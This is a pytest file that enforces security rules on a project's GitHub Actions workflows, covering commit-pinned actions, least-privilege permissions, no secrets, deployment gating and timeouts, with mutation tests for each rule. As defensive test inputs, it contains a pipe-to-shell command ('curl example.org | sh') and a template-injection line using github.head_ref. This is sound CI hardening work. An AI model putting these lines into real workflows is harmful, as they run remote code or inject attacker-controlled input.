"""What .github/workflows/ may do, and that a person at a desk can do it: each rule, and that it finds its breach."""

from __future__ import annotations

import itertools
import re
import subprocess
from collections.abc import Mapping
from pathlib import Path
from typing import Any

import pytest
import yaml

from tests.server import ROOT

FOLDER = ROOT / ".github" / "workflows"
PIPELINE = "ci-cd.yaml"

# Every action that may run, with its version and commit. A pin that moves is moved here too, by somebody who looked.
PINS = {
    "actions/attest": ("v4.2.2", "1e69f48acb82d1966a394da916b4c1698aa569d6"),
    "actions/cache": ("v5.0.5", "27d5ce7f107fe9357f9df03efb73ab90386fccae"),
    "actions/checkout": ("v7.0.1", "3d3c42e5aac5ba805825da76410c181273ba90b1"),
    "actions/deploy-pages": ("v5.0.0", "cd2ce8fcbc39b97be8ca5fce6e763baed58fa128"),
    "actions/download-artifact": ("v8.0.1", "3e5f45b2cfb9172054b4087a40e8e0b5a5461e7c"),
    "actions/setup-python": ("v7.0.0", "5fda3b95a4ea91299a34e894583c3862153e4b97"),
    "actions/upload-artifact": ("v7.0.1", "043fb46d1a93c77aae656e7c1c64a875d1fc6a0a"),
    "actions/upload-pages-artifact": ("v5.0.0", "fc324d3547104276b827a68afc52ff2a11cc49c9"),
    "aquasecurity/setup-trivy": ("v0.3.1", "81e514348e19b6112ce2a7e3ecbafe19c1e1f567"),
    "astral-sh/setup-uv": ("v10.0.1", "20cfd1bf945f4377ade1205e4dbc17946fc9a30d"),
    "docker/login-action": ("v4.1.0", "4907a6ddec9925e35a0a9e82d7399ccc52663121"),
    "docker/metadata-action": ("v6.2.0", "dc802804100637a589fabce1cb79ff13a1411302"),
    "docker/setup-buildx-action": ("v4.3.0", "37fe631027851001ddb9b187196cc803df7f5f0e"),
    "marocchino/sticky-pull-request-comment": ("v3.0.5", "5770ad5eb8f42dd2c4f34da00c94c5381e49af88"),
    "sigstore/cosign-installer": ("v4.1.2", "6f9f17788090df1f26f669e9d70d6ae9567deba6"),
}

# What a job may do besides reading the code.
READS_CODE = {"contents": "read"}
READS_IMAGES = READS_CODE | {"packages": "read"}
PERMISSIONS = {
    (PIPELINE, "comment"): {"pull-requests": "write"},
    (PIPELINE, "push"): READS_CODE | {"packages": "write", "id-token": "write", "attestations": "write"},
    (PIPELINE, "staging"): READS_IMAGES,
    (PIPELINE, "production"): READS_IMAGES,
    (PIPELINE, "rollback"): READS_IMAGES,
    ("docs.yaml", "publish"): {"pages": "write", "id-token": "write"},
}
DEPLOYS = {"staging", "production", "rollback"}
TRIGGERS = {"push", "pull_request", "workflow_dispatch", "schedule"}
STEP = re.compile(r"make ([a-z-]+)( [A-Z][A-Z0-9_]*=[A-Za-z0-9_.-]+)*")

Texts = Mapping[str, str]


def read() -> dict[str, str]:
    return {file.name: file.read_text(encoding="utf-8") for file in sorted(FOLDER.iterdir())}


def parse(text: str) -> dict[str, Any]:
    # As GitHub reads YAML 1.2: "on" is a word, and not true.
    content: dict[Any, Any] = yaml.safe_load(text)
    return {"on" if key is True else key: value for key, value in content.items()}


def jobs(texts: Texts) -> dict[tuple[str, str], dict[str, Any]]:
    return {(file, name): job for file, text in texts.items() for name, job in parse(text)["jobs"].items()}


def documented_verbs() -> set[str]:
    return set(re.findall(r"^([a-z-]+):.*## ", (ROOT / "Makefile").read_text(encoding="utf-8"), re.MULTILINE))


def drawn_stages() -> list[list[str]]:
    """The jobs of the pipeline as the README draws them: stages, each of jobs that run at the same time."""
    readme = (ROOT / "README.md").read_text(encoding="utf-8")
    (drawing,) = re.findall(r"^```text\n(checks .+?)^```", readme, re.MULTILINE | re.DOTALL)
    return [stage.replace("+", " ").split() for stage in drawing.split("→")]


def breaches_of_verbs(texts: Texts) -> list[str]:
    """Every step that runs something does so by one documented verb of the Makefile."""
    verbs = documented_verbs()
    return [
        f"{file}, {name}: {step['run']!r} is not one documented verb of the Makefile"
        for (file, name), job in jobs(texts).items()
        for step in job["steps"]
        if "run" in step and not ((found := STEP.fullmatch(step["run"])) and found[1] in verbs)
    ]


def breaches_of_pins(texts: Texts) -> list[str]:
    """Every action is one of PINS, by its commit, with its version in a comment."""
    found = []
    for file, text in texts.items():
        for number, line in enumerate(text.splitlines(), start=1):
            if "uses:" not in line:
                continue
            match = re.fullmatch(
                r"\s*(?:- )?uses: ([\w-]+/[\w-]+)@([0-9a-f]{40}) # (v\d+\.\d+\.\d+)( # zizmor: .+)?", line
            )
            if not match:
                found.append(f"{file}, line {number}: not ACTION@COMMIT # VERSION: {line.strip()}")
            elif PINS.get(match[1]) != (match[3], match[2]):
                found.append(f"{file}, line {number}: {match[1]} {match[3]} is not pinned as PINS says")
    return found


def breaches_of_permissions(texts: Texts) -> list[str]:
    """A workflow may do nothing, and a job what PERMISSIONS says; there are no secrets and no strangers' triggers."""
    found = []
    for file, text in texts.items():
        content = parse(text)
        if content.get("permissions") != {}:
            found.append(f"{file}: permissions of the workflow are not empty")
        if strange := set(content["on"]) - TRIGGERS:
            found.append(f"{file}: is started by {', '.join(sorted(strange))}")
        if "secrets." in text:
            found.append(f"{file}: uses a secret; the workflow's own identity is enough")
    for key, job in jobs(texts).items():
        if job.get("permissions") != PERMISSIONS.get(key, READS_CODE):
            found.append(f"{' '.join(key)}: permissions are {job.get('permissions')}")
    return found


def breaches_of_order(texts: Texts) -> list[str]:
    """The jobs are those that the README draws, and each stage waits for the one before."""
    pipeline = parse(texts[PIPELINE])["jobs"]

    def waits_for(name: str) -> set[str]:
        needs = set(pipeline[name].get("needs", []))
        return needs.union(*(waits_for(one) for one in needs)) if needs else needs

    stages = drawn_stages()
    drawn = {name for stage in stages for name in stage}
    missing = [f"{name} is drawn and is no job" for name in sorted(drawn - pipeline.keys())]
    if missing:
        return missing
    return [
        f"{name} does not wait for {one}"
        for before, stage in itertools.pairwise(stages)
        for name in stage
        for one in before
        if one not in waits_for(name)
    ]


def breaches_of_release(texts: Texts) -> list[str]:
    """What is tested is what is pushed, pull requests push nothing, and somebody is asked before production."""
    pipeline = parse(texts[PIPELINE])["jobs"]
    runs = {name: [step.get("run", "").split(" ")[:2] for step in job["steps"]] for name, job in pipeline.items()}
    builders = [name for name, steps in runs.items() if ["make", "image"] in steps]
    found = [] if builders == ["image"] else [f"the image is built by {', '.join(builders)}"]
    if pipeline["push"].get("if") != "github.event_name != 'pull_request'":
        found.append("push: a pull request gets there")
    for name in ("staging", "production"):
        if pipeline[name].get("environment") != name:
            found.append(f"{name}: is not behind its environment")
        if pipeline[name]["env"]["IMAGE"] != "${{ needs.push.outputs.image }}":
            found.append(f"{name}: deploys another image than the one that was pushed")
    for name in sorted(DEPLOYS):
        if pipeline[name].get("concurrency") not in (name, "${{ inputs.environment }}"):
            found.append(f"{name}: another deployment may run at the same time")
    if pipeline["rollback"].get("environment") != "${{ inputs.environment }}":
        found.append("rollback: is not behind its environment")
    return found


def breaches_of_care(texts: Texts) -> list[str]:
    """Jobs end by themselves, leave no token behind, and use the uv of the Makefile."""
    (version,) = re.findall(r"^UV_VERSION := (.+)$", (ROOT / "Makefile").read_text(encoding="utf-8"), re.MULTILINE)
    found = []
    for (file, name), job in jobs(texts).items():
        if not 0 < job.get("timeout-minutes", 0) <= 90:
            found.append(f"{file}, {name}: has no timeout")
        for step in job["steps"]:
            action, _, _ = step.get("uses", "").partition("@")
            options = step.get("with", {})
            if action == "actions/checkout" and options.get("persist-credentials") is not False:
                found.append(f"{file}, {name}: leaves the token in the checkout")
            if action == "astral-sh/setup-uv" and options.get("version") != version:
                found.append(f"{file}, {name}: another uv than the Makefile's, {version}")
    return found


RULES = [
    breaches_of_verbs,
    breaches_of_pins,
    breaches_of_permissions,
    breaches_of_order,
    breaches_of_release,
    breaches_of_care,
]


def breaches(texts: Texts) -> list[str]:
    return [breach for rule in RULES for breach in rule(texts)]


def test_the_workflows_keep_every_rule() -> None:
    assert breaches(read()) == []


def test_every_permission_and_every_pin_in_the_tables_is_used() -> None:
    texts = read()
    assert PERMISSIONS.keys() <= jobs(texts).keys()
    assert all(f"uses: {name}@" in "".join(texts.values()) for name in PINS)


@pytest.mark.parametrize(
    ("pattern", "replacement", "breach"),
    [
        (r"- run: make lint$", "- run: ruff check", "checks: 'ruff check' is not one documented verb"),
        (r"- run: make lint$", "- run: make lint && curl example.org | sh", "is not one documented verb"),
        (r"- run: make lint$", "- run: make tidy", "'make tidy' is not one documented verb"),
        (r"- run: make lint$", "- run: |\n          make lint\n          make audit", "is not one documented verb"),
        (r"^  scan:\n(.+?)(?=^  \w)", "", "scan is drawn and is no job"),
        (r"checkout@3d3c42e5\w+", "checkout@v7.0.1", "not ACTION@COMMIT # VERSION: - uses: actions/checkout"),
        (r"checkout@3d3c42e5\w+", "checkout@3d3c42e5", "not ACTION@COMMIT # VERSION: - uses: actions/checkout"),
        (r"(checkout@\w+) # v7.0.1", r"\1", "not ACTION@COMMIT # VERSION: - uses: actions/checkout"),
        (r"checkout@3d3c42e5", "checkout@3d3c42e6", "actions/checkout v7.0.1 is not pinned as PINS says"),
        (r"(checkout@\w+) # v7.0.1", r"\1 # v7.0.0", "actions/checkout v7.0.0 is not pinned as PINS says"),
        (r"uses: actions/cache@", "uses: someone/cache@", "someone/cache v5.0.5 is not pinned as PINS says"),
        (r"^permissions: {}", "permissions: write-all", "ci-cd.yaml: permissions of the workflow are not empty"),
        (r"contents: read", "contents: write", "ci-cd.yaml checks: permissions are {'contents': 'write'}"),
        (r"    permissions:\n      contents: read\n", "", "ci-cd.yaml checks: permissions are None"),
        (r"attestations: write", "attestations: write\n      actions: write", "ci-cd.yaml push: permissions are"),
        (r"^  pull_request:", "  pull_request_target:", "is started by pull_request_target"),
        (r"\${{ github.token }}", "${{ secrets.REGISTRY_PASSWORD }}", "ci-cd.yaml: uses a secret"),
        (r"needs: \[test-export, test-isa, test-image, scan\]", "needs: [scan]", "push does not wait for test-image"),
        (r"needs: \[push, staging\]", "needs: [push]", "production does not wait for staging"),
        (r"- run: make push$", "- run: make image\n      - run: make push", "the image is built by image, push"),
        (r"    if: github.event_name != 'pull_request'\n", "", "push: a pull request gets there"),
        (r"    environment: production.*?\n", "", "production: is not behind its environment"),
        (r"IMAGE: \${{ needs.push.outputs.image }}", "IMAGE: textserve:main", "staging: deploys another image"),
        (r"    concurrency: production\n", "", "production: another deployment may run at the same time"),
        (r"    environment: \${{ inputs.environment }}\n", "", "rollback: is not behind its environment"),
        (r"    timeout-minutes: 15\n", "", "checks: has no timeout"),
        (r"persist-credentials: false", "persist-credentials: true", "checks: leaves the token in the checkout"),
        (r"version: 0\.13\.8", "version: 0.13.7", "checks: another uv than the Makefile's"),
    ],
)
def test_a_breach_of_a_rule_is_found(pattern: str, replacement: str, breach: str) -> None:
    texts = read()
    changed, times = re.subn(pattern, replacement, texts[PIPELINE], count=1, flags=re.MULTILINE | re.DOTALL)
    assert times == 1
    found = breaches({**texts, PIPELINE: changed})
    assert any(breach in one for one in found), found


def test_a_job_that_the_readme_draws_is_missed_by_its_name() -> None:
    texts = read()
    for name in [name for stage in drawn_stages() for name in stage]:
        renamed = re.sub(rf"^  {name}:$", f"  {name}-2:", texts[PIPELINE], flags=re.MULTILINE)
        assert f"{name} is drawn and is no job" in breaches_of_order({**texts, PIPELINE: renamed})


def test_zizmor_and_the_schema_find_nothing() -> None:
    done = subprocess.run(["make", "workflows"], cwd=ROOT, capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stdout + done.stderr


@pytest.mark.parametrize(
    ("pattern", "replacement", "said"),
    [
        (r"runs-on: ubuntu-latest", "runs-on: ubuntu-latest\n    run-on: x", "run-on"),
        (r"- run: make lint$", "- run: echo ${{ github.head_ref }}", "template-injection"),
        (r"checkout@3d3c42e5\w+", "checkout@v7", "unpinned-uses"),
    ],
)
def test_zizmor_and_the_schema_are_asked(tmp_path: Path, pattern: str, replacement: str, said: str) -> None:
    folder = tmp_path / ".github" / "workflows"
    folder.mkdir(parents=True)
    text = re.sub(pattern, replacement, read()[PIPELINE], count=1, flags=re.MULTILINE)
    (folder / PIPELINE).write_text(text, encoding="utf-8")
    (folder.parent / "dependabot.yaml").write_bytes((ROOT / ".github" / "dependabot.yaml").read_bytes())
    command = ["make", f"--file={ROOT / 'Makefile'}", "workflows", f"VENV={ROOT / '.venv' / 'bin'}"]
    for stamp in (tmp_path / "uv.lock", tmp_path / "pyproject.toml", *_stamps(tmp_path)):
        stamp.parent.mkdir(exist_ok=True)
        stamp.touch()
    done = subprocess.run(command, cwd=tmp_path, capture_output=True, text=True, timeout=120)
    assert done.returncode != 0
    assert said in done.stdout + done.stderr


def _stamps(folder: Path) -> list[Path]:
    """What tells the Makefile that the environments are there; these tests use the project's own."""
    return [folder / ".venv" / ".inference", folder / ".venv" / ".integration"]
